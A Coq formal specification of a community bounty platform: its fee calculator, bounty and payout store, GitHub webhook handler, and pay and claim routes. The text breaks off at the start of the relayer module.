(** * Roxonn community bounties: lifecycle, idempotency and fee model

    A shallow embedding of the parts of the platform that decide how a
    community bounty is funded, claimed, verified and paid:

    - [FeeCalculator]   [calculateBountyFees] of [server/storage.ts]
    - [BountyStore]     [claimCommunityBountyAtomic], [recordWebhookDelivery],
                        [recordPayout] and the plain updates of the store
    - [Webhook]         [handleGitHubAppWebhook] of [server/routes/webhookRoutes.ts]
    - [PayRoute]        [POST /api/community-bounties/:id/pay]
    - [ClaimRoute]      [POST /api/community-bounties/:id/claim]
    - [Relayer]         [processClaimedBounty], [processClaimedBounties] and
                        the timer of [startCommunityBountyRelayer]
    - [Escrow]          [CommunityBountyEscrow.sol]
    - [CommandParser]   the comment command parser

    Conventions.  A JavaScript [number] that holds an amount is an IEEE
    754 double, a primitive [float]: [FeeCalculator] computes on doubles
    as the code does; one that holds an id or a count is an integer
    ([Z]).  A [DECIMAL(18, 8)] column is an exact rational ([Q]);
    [parseFloat] takes its value to the nearest double.  [DecimalFees] is
    the fee breakdown in exact decimal arithmetic, as the specification
    and the CHECK constraints of the migrations state it.  Database
    tables are finite maps keyed by their unique column(s).  An [await]ed
    call that may throw returns a sum; the outcome of a call into a module
    that is not part of this development (GitHub, the chain) is an
    argument of the caller. *)

From Stdlib Require Import ZArith QArith Qround Lia Bool List String Ascii.
From Stdlib Require PrimFloat SpecFloat FloatOps Uint63.
From stdpp Require Import gmap strings list pretty.

Local Open Scope Z_scope.

(* ===================================================================== *)
(** * The fee breakdown in decimal arithmetic *)
(* ===================================================================== *)

(** [fees(base)] as the specification words it, [round(base * 0.025, 8)]
    for both fees and exact sums and differences, and as the CHECK
    constraints of migrations 0021 and 0023 compute it with
    [ROUND(base_bounty_amount * 0.025, 8)] on [NUMERIC]: exact decimal
    arithmetic, a tie rounded up; its rows are the ones the constraints
    admit.  It is what [FeeCalculator] below, the implementation on
    doubles, is compared with. *)
Module DecimalFees.

Local Open Scope Q_scope.

(** The nearest integer, halves going up. *)
Definition round_half_up (x : Q) : Z := Qfloor (x + (1 # 2)).

(** [round(num, 8)] *)
Definition round8 (num : Q) : Q :=
  inject_Z (round_half_up (num * inject_Z 100000000)) / inject_Z 100000000.

Record FeeBreakdown : Type := mkFees {
  baseBountyAmount : Q;
  clientFeeAmount : Q;
  contributorFeeAmount : Q;
  totalPlatformFee : Q;
  totalPaidByClient : Q;
  contributorPayout : Q
}.

(** 2.5% *)
Definition rate : Q := 25 # 1000.

Definition fees (base : Q) : FeeBreakdown :=
  let clientFee := round8 (base * rate) in
  let contributorFee := round8 (base * rate) in
  let totalFee := round8 (clientFee + contributorFee) in
  let totalPaid := round8 (base + clientFee) in
  let payout := round8 (base - contributorFee) in
  {| baseBountyAmount := round8 base;
     clientFeeAmount := clientFee;
     contributorFeeAmount := contributorFee;
     totalPlatformFee := totalFee;
     totalPaidByClient := totalPaid;
     contributorPayout := payout |}.

(** An amount with at most eight fractional digits, as [DECIMAL(18, 8)]
    columns and the amount pattern of the creation schema produce. *)
Definition fixed8 (q : Q) : Prop :=
  exists n : Z, q == inject_Z n / inject_Z 100000000.

End DecimalFees.

(* ===================================================================== *)
(** * Fee calculator: [calculateBountyFees] *)
(* ===================================================================== *)

Module FeeCalculator.
Import PrimFloat SpecFloat FloatOps.

Set Warnings "-inexact-float".

(** The double that holds a natural number below 2^53. *)
Definition of_nonneg (k : Z) : float := of_uint63 (Uint63.of_Z k).

(** [Math.round]: the integral double closest to [x], the larger one on a
    tie; [x] itself when it is integral, infinite or NaN.  A double with
    a fractional part is below 2^52 in magnitude, so its rounding,
    [floor(x + 1/2)], is computed exactly on mantissa and exponent:
    [x] is [num * 2^e] with [e < 0]. *)
Definition Math_round (x : float) : float :=
  match Prim2SF x with
  | S754_finite s m e =>
      if 0 <=? e then x
      else
        let num := if s then Z.neg m else Z.pos m in
        let k := Z.shiftr (Z.shiftl num 1 + Z.shiftl 1 (- e)) (- e + 1) in
        if s then opp (of_nonneg (- k)) else of_nonneg k
  | _ => x
  end.

(** [const roundTo8 = (num) => Math.round(num * 100000000) / 100000000] *)
Definition roundTo8 (num : float) : float :=
  (Math_round (num * 100000000) / 100000000)%float.

Record FeeBreakdown : Type := mkFees {
  baseBountyAmount : float;
  clientFeeAmount : float;
  contributorFeeAmount : float;
  totalPlatformFee : float;
  totalPaidByClient : float;
  contributorPayout : float
}.

Definition calculateBountyFees (baseBountyAmount : float) : FeeBreakdown :=
  let clientFee := roundTo8 (baseBountyAmount * 0.025)%float in
  let contributorFee := roundTo8 (baseBountyAmount * 0.025)%float in
  let totalFee := roundTo8 (clientFee + contributorFee)%float in
  let totalPaid := roundTo8 (baseBountyAmount + clientFee)%float in
  let payout := roundTo8 (baseBountyAmount - contributorFee)%float in
  {| baseBountyAmount := roundTo8 baseBountyAmount;
     clientFeeAmount := clientFee;
     contributorFeeAmount := contributorFee;
     totalPlatformFee := totalFee;
     totalPaidByClient := totalPaid;
     contributorPayout := payout |}.

(** [parseFloat(s)] for a decimal string [s] of value [q], such as the
    text of a [DECIMAL(18, 8)] column: the double nearest to [q], a tie
    going to the even mantissa. *)
Definition parseFloat (q : Q) : float :=
  match Qnum q with
  | Z0 => 0%float
  | Zpos n =>
      SF2Prim (SFdiv prec emax (S754_finite false n 0)
                 (S754_finite false (Qden q) 0))
  | Zneg n =>
      SF2Prim (SFdiv prec emax (S754_finite true n 0)
                 (S754_finite false (Qden q) 0))
  end.




End FeeCalculator.

(* ===================================================================== *)
(** * Bounty store *)
(* ===================================================================== *)

Module BountyStore.

(** [community_bounties.status] and its CHECK constraint. *)
Inductive BountyStatus : Type :=
  | pending_payment | funded | claimed | completed
  | refunded | expired | failed_verification.

#[export] Instance BountyStatus_eq_dec : EqDecision BountyStatus.
Proof. solve_decision. Defined.

Definition status_name (s : BountyStatus) : string :=
  match s with
  | pending_payment => "pending_payment"
  | funded => "funded"
  | claimed => "claimed"
  | completed => "completed"
  | refunded => "refunded"
  | expired => "expired"
  | failed_verification => "failed_verification"
  end.

(** A row of [community_bounties]; nullable columns are options, decimal
    columns are rationals, timestamps are milliseconds. *)
Record CommunityBounty : Type := mkBounty {
  id : Z;
  githubRepoOwner : string;
  githubRepoName : string;
  githubIssueNumber : Z;
  githubInstallationId : option string;
  creatorUserId : option Z;
  amount : Q;
  currency : string;
  baseBountyAmount : option Q;
  clientFeeAmount : option Q;
  contributorFeeAmount : option Q;
  totalPaidByClient : option Q;
  expiresAt : option Z;
  status : BountyStatus;
  paymentStatus : string;
  paymentMethod : option string;
  escrowTxHash : option string;
  escrowDepositedAt : option Z;
  blockchainBountyId : option Z;
  claimedByUserId : option Z;
  claimedByGithubUsername : option string;
  claimedPrNumber : option Z;
  claimedPrUrl : option string;
  claimedAt : option Z;
  payoutTxHash : option string;
  payoutExecutedAt : option Z;
  payoutRecipientAddress : option string
}.

(** [.set({ status })] *)
Definition set_status (s : BountyStatus) (b : CommunityBounty) : CommunityBounty :=
  {| id := id b; githubRepoOwner := githubRepoOwner b;
     githubRepoName := githubRepoName b; githubIssueNumber := githubIssueNumber b;
     githubInstallationId := githubInstallationId b;
     creatorUserId := creatorUserId b; amount := amount b; currency := currency b;
     baseBountyAmount := baseBountyAmount b; clientFeeAmount := clientFeeAmount b;
     contributorFeeAmount := contributorFeeAmount b;
     totalPaidByClient := totalPaidByClient b; expiresAt := expiresAt b;
     status := s;
     paymentStatus := paymentStatus b; paymentMethod := paymentMethod b;
     escrowTxHash := escrowTxHash b; escrowDepositedAt := escrowDepositedAt b;
     blockchainBountyId := blockchainBountyId b;
     claimedByUserId := claimedByUserId b;
     claimedByGithubUsername := claimedByGithubUsername b;
     claimedPrNumber := claimedPrNumber b; claimedPrUrl := claimedPrUrl b;
     claimedAt := claimedAt b;
     payoutTxHash := payoutTxHash b; payoutExecutedAt := payoutExecutedAt b;
     payoutRecipientAddress := payoutRecipientAddress b |}.

(** The [.set({...})] of [claimCommunityBountyAtomic]; a key whose value
    is [undefined] is left out of the UPDATE. *)
Definition set_claim (userId : Z) (githubUsername : string) (prNumber : Z)
    (prUrl : option string) (now : Z) (b : CommunityBounty) : CommunityBounty :=
  {| id := id b; githubRepoOwner := githubRepoOwner b;
     githubRepoName := githubRepoName b; githubIssueNumber := githubIssueNumber b;
     githubInstallationId := githubInstallationId b;
     creatorUserId := creatorUserId b; amount := amount b; currency := currency b;
     baseBountyAmount := baseBountyAmount b; clientFeeAmount := clientFeeAmount b;
     contributorFeeAmount := contributorFeeAmount b;
     totalPaidByClient := totalPaidByClient b; expiresAt := expiresAt b;
     status := claimed;
     paymentStatus := paymentStatus b; paymentMethod := paymentMethod b;
     escrowTxHash := escrowTxHash b; escrowDepositedAt := escrowDepositedAt b;
     blockchainBountyId := blockchainBountyId b;
     claimedByUserId := Some userId;
     claimedByGithubUsername := Some githubUsername;
     claimedPrNumber := Some prNumber;
     claimedPrUrl := match prUrl with Some u => Some u | None => claimedPrUrl b end;
     claimedAt := Some now;
     payoutTxHash := payoutTxHash b; payoutExecutedAt := payoutExecutedAt b;
     payoutRecipientAddress := payoutRecipientAddress b |}.

(** The update of the pay route:
    [{ status: 'funded', paymentStatus: 'completed', paymentMethod: 'crypto',
       escrowTxHash, escrowDepositedAt, blockchainBountyId }]. *)
Definition set_funding (txHash : string) (now : Z) (onChainId : Z)
    (b : CommunityBounty) : CommunityBounty :=
  {| id := id b; githubRepoOwner := githubRepoOwner b;
     githubRepoName := githubRepoName b; githubIssueNumber := githubIssueNumber b;
     githubInstallationId := githubInstallationId b;
     creatorUserId := creatorUserId b; amount := amount b; currency := currency b;
     baseBountyAmount := baseBountyAmount b; clientFeeAmount := clientFeeAmount b;
     contributorFeeAmount := contributorFeeAmount b;
     totalPaidByClient := totalPaidByClient b; expiresAt := expiresAt b;
     status := funded;
     paymentStatus := "completed"; paymentMethod := Some "crypto"%string;
     escrowTxHash := Some txHash; escrowDepositedAt := Some now;
     blockchainBountyId := Some onChainId;
     claimedByUserId := claimedByUserId b;
     claimedByGithubUsername := claimedByGithubUsername b;
     claimedPrNumber := claimedPrNumber b; claimedPrUrl := claimedPrUrl b;
     claimedAt := claimedAt b;
     payoutTxHash := payoutTxHash b; payoutExecutedAt := payoutExecutedAt b;
     payoutRecipientAddress := payoutRecipientAddress b |}.

(** The update of the relayer after a payout:
    [{ status: 'completed', payoutTxHash, payoutExecutedAt,
       payoutRecipientAddress }]. *)
Definition set_payout (txHash : string) (now : Z) (recipient : string)
    (b : CommunityBounty) : CommunityBounty :=
  {| id := id b; githubRepoOwner := githubRepoOwner b;
     githubRepoName := githubRepoName b; githubIssueNumber := githubIssueNumber b;
     githubInstallationId := githubInstallationId b;
     creatorUserId := creatorUserId b; amount := amount b; currency := currency b;
     baseBountyAmount := baseBountyAmount b; clientFeeAmount := clientFeeAmount b;
     contributorFeeAmount := contributorFeeAmount b;
     totalPaidByClient := totalPaidByClient b; expiresAt := expiresAt b;
     status := completed;
     paymentStatus := paymentStatus b; paymentMethod := paymentMethod b;
     escrowTxHash := escrowTxHash b; escrowDepositedAt := escrowDepositedAt b;
     blockchainBountyId := blockchainBountyId b;
     claimedByUserId := claimedByUserId b;
     claimedByGithubUsername := claimedByGithubUsername b;
     claimedPrNumber := claimedPrNumber b; claimedPrUrl := claimedPrUrl b;
     claimedAt := claimedAt b;
     payoutTxHash := Some txHash; payoutExecutedAt := Some now;
     payoutRecipientAddress := Some recipient |}.

Record User : Type := mkUser {
  userId : Z;
  githubUsername : option string;
  xdcWalletAddress : option string
}.

(** [webhook_deliveries.status] *)
Inductive DeliveryStatus : Type :=
  | processing | delivery_completed | delivery_failed | ignored.

Record WebhookDelivery : Type := mkDelivery {
  eventType : string;
  eventAction : option string;
  repositoryId : option string;
  installationId : option string;
  deliveryStatus : DeliveryStatus;
  processedAt : option Z;
  errorMessage : option string
}.

(** The object handed to [recordPayout] by the relayer. *)
Record NewPayout : Type := mkPayout {
  repositoryGithubId : string;
  issueNumber : Z;
  contributorGithubUsername : string;
  contributorUserId : option Z;
  contributorWalletAddress : string;
  payoutFees : FeeCalculator.FeeBreakdown;
  payoutCurrency : string;
  transactionHash : string
}.

(** The tables.  Each map is keyed by the column(s) that carry the
    table's UNIQUE constraint: the primary key of [community_bounties],
    [uq_payouts_repo_issue] and [webhook_deliveries.delivery_id]. *)
Record Store : Type := mkStore {
  communityBounties : gmap Z CommunityBounty;
  users : list User;
  payouts : gmap (string * Z) NewPayout;
  webhookDeliveries : gmap string WebhookDelivery
}.

Definition with_bounties (m : gmap Z CommunityBounty) (db : Store) : Store :=
  {| communityBounties := m; users := users db;
     payouts := payouts db; webhookDeliveries := webhookDeliveries db |}.

Definition with_payouts (m : gmap (string * Z) NewPayout) (db : Store) : Store :=
  {| communityBounties := communityBounties db; users := users db;
     payouts := m; webhookDeliveries := webhookDeliveries db |}.

Definition with_deliveries (m : gmap string WebhookDelivery) (db : Store) : Store :=
  {| communityBounties := communityBounties db; users := users db;
     payouts := payouts db; webhookDeliveries := m |}.

(** Whether a statement sent to the database is executed or the driver
    throws (connection lost, timeout, ...). *)
Inductive DbIO : Type :=
  | DbUp
  | DbThrows (message : string).

(** ** Plain reads and updates *)

(** Modelled from the spec: [getCommunityBounty] of [server/storage.ts],
    which is not part of the sources ("Get by ID"): the row with that id,
    if any. *)
Definition getCommunityBounty (bountyId : Z) (db : Store) : option CommunityBounty :=
  communityBounties db !! bountyId.

(** Modelled from the spec: [updateCommunityBounty] of [server/storage.ts],
    which is not part of the sources ("State transitions, partial updates
    for different operations"): a partial update of the row with that id,
    returning the updated row. *)
Definition updateCommunityBounty (bountyId : Z)
    (data : CommunityBounty -> CommunityBounty) (db : Store)
  : option CommunityBounty * Store :=
  match communityBounties db !! bountyId with
  | Some b => (Some (data b),
               with_bounties (<[bountyId := data b]> (communityBounties db)) db)
  | None => (None, db)
  end.

(** Modelled from the spec: [getUserById] and [getUserByGithubUsername]
    of [server/storage.ts], which is not part of the sources: the user with
    that id, or with that GitHub user name. *)

Definition getUserById (uid : Z) (db : Store) : option User :=
  List.find (fun u => Z.eqb (userId u) uid) (users db).

Definition getUserByGithubUsername (name : string) (db : Store) : option User :=
  List.find (fun u => match githubUsername u with
                      | Some n => String.eqb n name
                      | None => false
                      end) (users db).

Definition claimedAt_le (a b : CommunityBounty) : bool :=
  match claimedAt a, claimedAt b with
  | Some x, Some y => Z.leb x y
  | None, _ => true
  | Some _, None => false
  end.

Fixpoint insert_by_claimedAt (b : CommunityBounty) (l : list CommunityBounty)
  : list CommunityBounty :=
  match l with
  | [] => [b]
  | c :: l' => if claimedAt_le b c then b :: l else c :: insert_by_claimedAt b l'
  end.

(** Modelled from the spec: [getClaimedCommunityBounties] of
    [server/storage.ts], which is not part of the sources ("Only claimed
    status, ordered by claimed_at (FIFO)"): the rows whose status is
    [claimed], oldest claim first. *)
Definition getClaimedCommunityBounties (db : Store) : list CommunityBounty :=
  foldr insert_by_claimedAt []
    (List.filter (fun b => bool_decide (status b = claimed))
       (map snd (map_to_list (communityBounties db)))).

(** ** Atomic claim *)

Inductive ClaimError : Type :=
  | BountyNotFound
  | NotClaimable (current : BountyStatus).

(** [error.message] *)
Definition claim_error_message (e : ClaimError) : string :=
  match e with
  | BountyNotFound => "Bounty not found"
  | NotClaimable s => "Bounty is not claimable (status: " ++ status_name s ++ ")"
  end.

(** [claimCommunityBountyAtomic].  The body of [db.transaction] runs under
    the row lock taken by [SELECT ... FOR UPDATE], so it is one step from
    store to store; a thrown error rolls the transaction back. *)
Definition claimCommunityBountyAtomic (now : Z) (bountyId userId : Z)
    (githubUsername : string) (prNumber : Z) (prUrl : option string)
    (db : Store) : (ClaimError + CommunityBounty) * Store :=
  match communityBounties db !! bountyId with
  | None => (inl BountyNotFound, db)
  | Some bounty =>
      if bool_decide (status bounty = funded) then
        let updatedBounty := set_claim userId githubUsername prNumber prUrl now bounty in
        (inr updatedBounty,
         with_bounties (<[bountyId := updatedBounty]> (communityBounties db)) db)
      else (inl (NotClaimable (status bounty)), db)
  end.

(** ** Webhook delivery ledger *)

(** [recordWebhookDelivery]: [INSERT ... ON CONFLICT DO NOTHING RETURNING id];
    the [catch] branch answers [true] ("fail open"). *)
Definition recordWebhookDelivery (io : DbIO) (deliveryId eventType : string)
    (eventAction repositoryId : option string) (installationId : string)
    (db : Store) : bool * Store :=
  match io with
  | DbThrows _ => (true, db)
  | DbUp =>
      match webhookDeliveries db !! deliveryId with
      | Some _ => (false, db)
      | None =>
          (true,
           with_deliveries
             (<[deliveryId :=
                  {| eventType := eventType; eventAction := eventAction;
                     repositoryId := repositoryId;
                     installationId := Some installationId;
                     deliveryStatus := processing;
                     processedAt := None; errorMessage := None |}]>
                (webhookDeliveries db)) db)
      end
  end.

Definition set_delivery_status (s : DeliveryStatus) (now : Z)
    (err : option string) (d : WebhookDelivery) : WebhookDelivery :=
  {| eventType := eventType d; eventAction := eventAction d;
     repositoryId := repositoryId d; installationId := installationId d;
     deliveryStatus := s; processedAt := Some now;
     errorMessage := match err with Some e => Some e | None => errorMessage d end |}.

(** [markWebhookDeliveryCompleted]; an error of the update is swallowed. *)
Definition markWebhookDeliveryCompleted (io : DbIO) (now : Z) (deliveryId : string)
    (db : Store) : Store :=
  match io with
  | DbThrows _ => db
  | DbUp =>
      with_deliveries
        (alter (set_delivery_status delivery_completed now None) deliveryId
           (webhookDeliveries db)) db
  end.

(** [markWebhookDeliveryFailed] *)
Definition markWebhookDeliveryFailed (io : DbIO) (now : Z) (deliveryId : string)
    (message : string) (db : Store) : Store :=
  match io with
  | DbThrows _ => db
  | DbUp =>
      with_deliveries
        (alter (set_delivery_status delivery_failed now (Some message)) deliveryId
           (webhookDeliveries db)) db
  end.

(** ** Payout ledger *)

Inductive PayoutError : Type :=
  | PayoutAlreadyRecorded          (* 'Payout already recorded for this issue' *)
  | PayoutDbError (message : string).

Definition payoutKey (p : NewPayout) : string * Z :=
  (repositoryGithubId p, issueNumber p).

(** [getPayoutByRepoAndIssue]; an error of the query is answered by [null]. *)
Definition getPayoutByRepoAndIssue (io : DbIO) (repo : string) (issue : Z)
    (db : Store) : option NewPayout :=
  match io with
  | DbThrows _ => None
  | DbUp => payouts db !! (repo, issue)
  end.

(** [recordPayout]: a plain [INSERT]; the unique index on
    (repository_github_id, issue_number) rejects a second row, which the
    [catch] branch rethrows as "already recorded"; any other error is
    rethrown as it is. *)
Definition recordPayout (io : DbIO) (payout : NewPayout) (db : Store)
  : (PayoutError + NewPayout) * Store :=
  match io with
  | DbThrows m => (inl (PayoutDbError m), db)
  | DbUp =>
      match payouts db !! payoutKey payout with
      | Some _ => (inl PayoutAlreadyRecorded, db)
      | None =>
          (inr payout,
           with_payouts (<[payoutKey payout := payout]> (payouts db)) db)
      end
  end.

End BountyStore.

(* ===================================================================== *)
(** * JavaScript truthiness of the values the handlers test *)
(* ===================================================================== *)

Module Js.

(** [!s] for a string that may be [undefined]/[null]. *)
Definition falsy_string (s : option string) : bool :=
  match s with
  | None => true
  | Some s' => String.eqb s' ""
  end.

(** [!n] for a number that may be [undefined]/[null]. *)
Definition falsy_number (n : option Z) : bool :=
  match n with
  | None => true
  | Some n' => Z.eqb n' 0
  end.

(** [a || b] on a nullable decimal string of the store. *)
Definition or_else {A : Type} (a : option A) (b : A) : A :=
  match a with Some x => x | None => b end.

(** [String(x)] for a number that may be [undefined]. *)
Definition String_of (n : option Z) : string :=
  match n with
  | Some z => pretty z
  | None => "undefined"
  end.

End Js.

(* ===================================================================== *)
(** * GitHub App webhook handler *)
(* ===================================================================== *)

Module Webhook.
Import BountyStore.

(** The fields of the JSON payload the handler looks at. *)
Record Payload : Type := mkPayload {
  action : option string;
  installation_id : option Z;           (* payload.installation?.id *)
  repository_id : option Z;             (* payload.repository?.id *)
  comment_body : option string;         (* payload.comment?.body *)
  pull_request_merged : bool            (* payload.pull_request?.merged === true *)
}.

Record Request : Type := mkRequest {
  x_github_event : string;
  x_hub_signature_256 : option string;
  x_github_delivery : string;
  signature_verifies : bool;            (* appWebhooks.verify(body, signature) *)
  payload : Payload
}.

Record Response : Type := mkResponse {
  statusCode : Z;
  message : string
}.

(** Work handed to [setImmediate], and the other writes of the handler
    outside the delivery table. *)
Inductive BackgroundTask : Type :=
  | HandleIssueOpened
  | HandleBountyCommand
  | HandleIssueClosed
  | HandlePullRequestMergedForAutoPayout.

Inductive Effect : Type :=
  | Scheduled (task : BackgroundTask) (installationId : string)
  | UpdateRepositoryVisibility (repoId : string) (isPrivate : bool).

Section Handler.

(** [parseBountyCommand] of [server/github.ts]; the handler only tests
    whether it returns a command. *)
Variable Command : Type.
Variable parseBountyCommand : string -> option Command.

Definition action_is (p : Payload) (a : string) : bool :=
  match action p with
  | Some a' => String.eqb a' a
  | None => false
  end.

(** [payload.action || null] *)
Definition action_or_null (p : Payload) : option string :=
  if Js.falsy_string (action p) then None else action p.

(** [payload.repository?.id ? String(payload.repository.id) : null] *)
Definition repository_id_or_null (p : Payload) : option string :=
  if Js.falsy_number (repository_id p) then None
  else Some (Js.String_of (repository_id p)).

(** [handleGitHubAppWebhook].  [io] is the state of the database during
    the request and [now] the clock. *)
Definition handleGitHubAppWebhook (io : DbIO) (now : Z) (req : Request)
    (db : Store) : Response * Store * list Effect :=
  let event := x_github_event req in
  let delivery := x_github_delivery req in
  let p := payload req in
  if Js.falsy_string (x_hub_signature_256 req) then
    ({| statusCode := 401; message := "Missing signature" |}, db, [])
  else if negb (signature_verifies req) then
    ({| statusCode := 401; message := "Invalid signature" |}, db, [])
  else
    let installationId := Js.String_of (installation_id p) in
    if String.eqb installationId "" then
      ({| statusCode := 400; message := "Missing installation ID" |}, db, [])
    else
      let '(isFirstDelivery, db1) :=
        recordWebhookDelivery io delivery event (action_or_null p)
          (repository_id_or_null p) installationId db in
      if negb isFirstDelivery then
        ({| statusCode := 200; message := "Duplicate delivery ignored" |}, db1, [])
      else if String.eqb event "installation"
              || String.eqb event "installation_repositories" then
        ({| statusCode := 200; message := "Installation event processed." |},
         markWebhookDeliveryCompleted io now delivery db1, [])
      else if String.eqb event "issues" && action_is p "opened" then
        ({| statusCode := 202; message := "Issue opened processing initiated." |},
         db1, [Scheduled HandleIssueOpened installationId])
      else if String.eqb event "issue_comment" && action_is p "created" then
        let commentBody := Js.or_else (comment_body p) "" in
        match parseBountyCommand commentBody with
        | Some _ =>
            ({| statusCode := 202; message := "Bounty command processing initiated." |},
             db1, [Scheduled HandleBountyCommand installationId])
        | None =>
            ({| statusCode := 200; message := "Comment ignored - no bounty command" |},
             markWebhookDeliveryCompleted io now delivery db1, [])
        end
      else if String.eqb event "issues" && action_is p "closed" then
        ({| statusCode := 202;
            message := "Webhook received and Issue Closed processing initiated." |},
         db1, [Scheduled HandleIssueClosed installationId])
      else if String.eqb event "pull_request" && action_is p "closed"
              && pull_request_merged p then
        ({| statusCode := 202;
            message := "PR merge auto-payout processing initiated." |},
         db1, [Scheduled HandlePullRequestMergedForAutoPayout installationId])
      else if String.eqb event "repository"
              && (action_is p "privatized" || action_is p "publicized") then
        ({| statusCode := 200; message := "Repository visibility update processed." |},
         markWebhookDeliveryCompleted io now delivery db1,
         [UpdateRepositoryVisibility (Js.String_of (repository_id p))
            (action_is p "privatized")])
      else
        ({| statusCode := 200; message := "Event ignored" |},
         markWebhookDeliveryCompleted io now delivery db1, []).

End Handler.

(** The operations of the store that touch [webhook_deliveries], as one
    step relation: what can happen between two deliveries with the same
    id. *)
Inductive delivery_step : Store -> Store -> Prop :=
  | step_record io d e a r i db :
      delivery_step db (snd (recordWebhookDelivery io d e a r i db))
  | step_completed io now d db :
      delivery_step db (markWebhookDeliveryCompleted io now d db)
  | step_failed io now d m db :
      delivery_step db (markWebhookDeliveryFailed io now d m db)
  | step_bounties m db :
      delivery_step db (with_bounties m db)
  | step_payouts m db :
      delivery_step db (with_payouts m db).

Inductive delivery_steps : Store -> Store -> Prop :=
  | steps_refl db : delivery_steps db db
  | steps_more db1 db2 db3 :
      delivery_step db1 db2 -> delivery_steps db2 db3 -> delivery_steps db1 db3.

End Webhook.

(* ===================================================================== *)
(** * POST /api/community-bounties/:id/pay *)
(* ===================================================================== *)

Module PayRoute.
Import BountyStore.

(** What the chain says about a submitted transaction. *)
Inductive ReceiptStatus : Type :=
  | Succeeded        (* mined, status 1 *)
  | Reverted         (* mined, status 0 *)
  | Unconfirmed.     (* no receipt yet *)

(** The arguments of [blockchain.createCommunityBountyWith<currency>]. *)
Record CreateCall : Type := mkCreateCall {
  callCurrency : string;
  callUserId : Z;
  totalAmountToPay : Q;
  expiryTimestamp : Z;
  callBaseAmount : Q;
  callClientFee : Q;
  callContributorFee : Q
}.

(** Modelled from the spec: [blockchain.createCommunityBountyWithXDC],
    [...WithROXN] and [...WithUSDC] of [server/blockchain.ts], which is not
    part of the sources.  A ledger call submits a transaction; it either
    throws or returns [{ tx, bountyId }], and what it returns is a
    transaction hash that is confirmed, reverted or still unconfirmed on
    the chain.  [tx] is typed [any]; the route reads [tx.hash] only. *)
Inductive CreateOutcome : Type :=
  | CreateThrows (message : string)
  | CreateReturns (txHash : string) (bountyId : Z) (receipt : ReceiptStatus).

Inductive Response : Type :=
  | Error (statusCode : Z) (error : string)
  | Funded (txHash : string) (blockchainBountyId : Z)
           (bounty : option CommunityBounty).     (* 200, status: 'funded' *)

Definition supported_currency (c : string) : bool :=
  String.eqb c "XDC" || String.eqb c "ROXN" || String.eqb c "USDC".

(** The handler of [POST /api/community-bounties/:id/pay].
    [reqUser] is [req.user?.id], [paramId] is [parseInt(req.params.id)]
    ([None] for [NaN]). *)
Definition pay (blockchain : CreateCall -> CreateOutcome) (now : Z)
    (reqUser : option Z) (paramId : option Z) (db : Store) : Response * Store :=
  match reqUser with
  | None => (Error 401 "Not authenticated", db)
  | Some uid =>
    if Z.eqb uid 0 then (Error 401 "Not authenticated", db) else
    match paramId with
    | None => (Error 400 "Invalid bounty ID", db)
    | Some bountyId =>
      match getCommunityBounty bountyId db with
      | None => (Error 404 "Bounty not found", db)
      | Some bounty =>
        if negb (bool_decide (creatorUserId bounty = Some uid)) then
          (Error 403 "Only bounty creator can pay", db)
        else if negb (bool_decide (status bounty = pending_payment)) then
          (Error 400 ("Bounty is not in pending_payment status (current: "
                      ++ status_name (status bounty) ++ ")"), db)
        else
          let expiry := match expiresAt bounty with
                        | Some ms => ms / 1000
                        | None => 0
                        end in
          if negb (supported_currency (currency bounty)) then
            (Error 400 "Unsupported currency", db)
          else
            let call :=
              {| callCurrency := currency bounty;
                 callUserId := uid;
                 totalAmountToPay := Js.or_else (totalPaidByClient bounty) (amount bounty);
                 expiryTimestamp := expiry;
                 callBaseAmount := Js.or_else (baseBountyAmount bounty) (amount bounty);
                 callClientFee := Js.or_else (clientFeeAmount bounty) 0%Q;
                 callContributorFee := Js.or_else (contributorFeeAmount bounty) 0%Q |} in
            match blockchain call with
            | CreateThrows _ => (Error 500 "Failed to process payment", db)
            | CreateReturns txHash onChainId _ =>
                let '(updatedBounty, db') :=
                  updateCommunityBounty bountyId (set_funding txHash now onChainId) db in
                (Funded txHash onChainId updatedBounty, db')
            end
      end
    end
  end.

End PayRoute.

(* ===================================================================== *)
(** * POST /api/community-bounties/:id/claim *)
(* ===================================================================== *)

Module ClaimRoute.
Import BountyStore.

Inductive Response : Type :=
  | Error (statusCode : Z) (error : string)
  | Claimed (bounty : CommunityBounty).           (* 200, status: 'claimed' *)

(** The handler of [POST /api/community-bounties/:id/claim].
    [prNumber] is [None] when the body field is absent or not a number. *)
Definition claim (now : Z) (reqUser : option Z) (paramId : option Z)
    (prNumber : option Z) (prUrl : option string) (db : Store) : Response * Store :=
  match reqUser with
  | None => (Error 401 "Not authenticated", db)
  | Some uid =>
    if Z.eqb uid 0 then (Error 401 "Not authenticated", db) else
    match paramId with
    | None => (Error 400 "Invalid bounty ID", db)
    | Some bountyId =>
      if Js.falsy_number prNumber then (Error 400 "PR number is required", db) else
      match getCommunityBounty bountyId db with
      | None => (Error 404 "Bounty not found", db)
      | Some bounty =>
        if negb (bool_decide (status bounty = funded)) then
          (Error 400 ("Bounty is not available for claiming (status: "
                      ++ status_name (status bounty) ++ ")"), db)
        else
          match getUserById uid db with
          | None => (Error 400 "GitHub account not linked", db)
          | Some user =>
            if Js.falsy_string (githubUsername user) then
              (Error 400 "GitHub account not linked", db)
            else if Js.falsy_string (xdcWalletAddress user) then
              (Error 400 "Wallet not set up. Please create a wallet first.", db)
            else
              match claimCommunityBountyAtomic now bountyId uid
                      (Js.or_else (githubUsername user) "")
                      (Js.or_else prNumber 0) prUrl db with
              | (inl claimError, db') => (Error 400 (claim_error_message claimError), db')
              | (inr updatedBounty, db') => (Claimed updatedBounty, db')
              end
          end
      end
    end
  end.

End ClaimRoute.

(* ===================================================================== *)
(** * Relayer *)
(* ===================================================================== *)

Module Relayer.
Import BountyStore.

Record VerifyCall : Type := mkVerifyCall {
  repoOwner : string;
  repoName : string;
  prNumber : Z;
  issue : Z;
  installation : string
}.

(** Modelled from the spec: [verifyPRMergedAndClosesIssue] of
    [server/github.ts], which is not part of the sources.  The relayer
    awaits the call inside its [try] and reads [verified] and [error] of
    what it returns: the call either throws (a rejected promise) or
    returns [{ verified, error? }].  Which failures of the GitHub call
    itself (rate limit, timeout) come back as [verified = false] with the
    error and which are thrown is decided in the verifier; the relayer
    sees one or the other. *)
Inductive VerifyOutcome : Type :=
  | VerifyThrows (message : string)
  | VerifyReturns (verified : bool) (error : option string).

Record CompleteCall : Type := mkCompleteCall {
  onChainId : option Z;                 (* bounty.blockchainBountyId! *)
  recipient : string
}.

(** [blockchain.completeCommunityBounty] of [server/blockchain.ts]
    returns [{ txHash, blockNumber }] or throws. *)
